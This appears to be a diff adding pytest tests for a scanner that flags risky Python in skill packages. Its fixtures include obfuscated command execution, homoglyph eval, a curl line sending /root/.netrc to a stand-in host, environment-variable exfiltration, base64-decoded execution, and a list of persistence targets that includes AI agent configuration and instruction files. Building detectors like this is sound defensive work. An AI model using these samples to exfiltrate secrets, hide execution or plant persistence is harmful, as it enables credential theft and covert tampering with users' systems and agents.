@@ -1,0 +1,111 @@
+"""No script is left unparsed that would give anything: each name of the tables is used in a script of its own."""
+
+from contextlib import suppress
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from skillpack.abilities.python import functions, tables
+from skillpack.abilities.python.flow import python_flows
+from skillpack.abilities.python.signs import FLOWS, USES, may_do, may_flow
+from skillpack.abilities.python.uses import python_uses
+from skillpack.abilities.source_text import Found, SourceText
+
+
+def readings(text: str) -> list[Found]:
+    source = SourceText("a.py", text, "python")
+    return [*python_uses(source), *python_flows([source])]
+
+
+def called(full: str) -> str:
+    """Return a script that calls something by its full name, under another one where it can."""
+    head, _, last = full.rpartition(".")
+    if not head:
+        return f"{last}(x)"
+    module, _, owner = head.rpartition(".")
+    if owner[:1].isupper():
+        return f"from {module} import {owner} as a\na.{last}(x)"
+    return f"from {head} import {last} as a\na(x)"
+
+
+SCRIPTS = [
+    *map(called, functions.FUNCTIONS),
+    *(f"import {library} as a" for library in functions.LIBRARIES),
+    *(f"a.{method}(x)" for method in functions.METHODS | functions.EXPORTS),
+    *(f"import {library}\na.save(x)" for library in functions.SAVERS),
+    *(f"from {library} import open as a\na(x, 'w')" for library in functions.OPENERS),
+    *map(called, functions.VARIABLES),
+    called(functions.UNSAFE_YAML),
+    "from os import environ as a\na",
+    "open(x, 'w')",
+    "a.open('w')",
+    "__import__('o' 's').system(x)",
+    "a.import_module('o' 's').system(x)",
+    "'~/.s' 'sh/x'",
+    "a / '.ssh'",
+    "'\\x2froot\\x2f.ssh\\x2fx'",
+    "'\\N{SOLIDUS}.ssh\\N{SOLIDUS}x'",
+    "Path('.ssh/x')",
+    "\uff45val(x)",
+    "import \u1d52s\n\u1d52s.remove(x)",
+]
+
+
+@pytest.mark.parametrize("text", SCRIPTS)
+def test_what_would_give_something_is_parsed(text: str) -> None:
+    assert readings(text), "the script must be one that gives something"
+    assert may_do(text)
+
+
+SENDING = [
+    *(f"import os, {library}\n{library}.post(dict(os.environ))" for library in sorted(tables.NETWORK)),
+    *(f"import os\na.{method}(dict(os.environ))" for method in sorted(tables.ANYBODYS)),
+    *(f"import {each.partition('.')[0]}\n{each}('curl -d @/root/.netrc b.example')" for each in sorted(tables.RUNS)),
+]
+RUNNING = [
+    f"import base64{', ' + each.rpartition('.')[0] if '.' in each else ''}\n{each}(base64.b64decode(x))"
+    for each in sorted(tables.EVALUATES)
+]
+
+
+@pytest.mark.parametrize("text", [*SENDING, *RUNNING, "import base64\ngetattr(a, base64.b64decode(x))(y)"])
+def test_what_would_send_or_run_something_is_followed(text: str) -> None:
+    assert list(python_flows([SourceText("a.py", text, "python")]))
+    assert may_flow(text)
+    assert may_do(text)
+
+
+PLACES = (
+    "~/.bashrc ~/.zshrc ~/.profile ~/.bash_profile ~/.zshenv ~/.config/fish/config.fish /etc/profile.d/x /etc/crontab"
+    " /etc/cron.d/x /var/spool/cron/x ~/Library/LaunchAgents/x ~/.config/autostart/x /etc/systemd/x /lib/systemd/x"
+    " ~/.config/systemd/x /etc/rc.local /etc/init.d/x ~/.ssh/authorized_keys /etc/sudoers.d/x /etc/ld.so.preload"
+    " .git/hooks/x ~/.config/git/hooks/x sitecustomize.py usercustomize.py ~/.xprofile ~/.xinitrc ~/.inputrc"
+    " ~/.tmux.conf ~/.vimrc ~/.claude/settings.json ~/.claude.json ~/.codex/config.toml ~/.gemini/settings.json"
+    " ~/.cursor/settings.json .vscode/settings.json managed-settings.json opencode.json ~/.claude/hooks/x"
+    " ~/.cursor/hooks.json mcp.json .mcp.json claude_desktop_config.json mcp_config.json CLAUDE.md AGENTS.md GEMINI.md"
+    " .cursorrules .cursor/rules .windsurfrules .clinerules MEMORY.md .github/copilot-instructions.md"
+    " .claude/commands SOUL.md IDENTITY.md .goosehints ~/.claude/skills/x ~/.agents/skills/x .openclaw/skills/x"
+)
+
+
+@pytest.mark.parametrize("place", PLACES.split())
+def test_what_would_be_left_behind_is_followed(place: str) -> None:
+    text = f"open({place!r}, 'a').write(x)"
+    assert list(python_flows([SourceText("a.py", text, "python")]))
+    assert may_flow(text)
+
+
+@given(
+    st.lists(st.sampled_from(sorted({"x", "y", "(", ")", ".", "=", "\n", "'a'", "def f():\n return ", "import z\n"})))
+)
+def test_a_text_without_a_sign_gives_nothing(pieces: list[str]) -> None:
+    text = "".join(pieces)
+    assert not may_do(text)
+    with suppress(SyntaxError):
+        assert readings(text) == []
+
+
+def test_plain_words_are_no_signs() -> None:
+    assert not {"def", "return", "import", "class", "os.path", "print", "json", "code", "types"} & (USES | FLOWS)
+    assert not may_do('import json\n\ndef run(value):\n    return json.loads(value)["a"]\n')
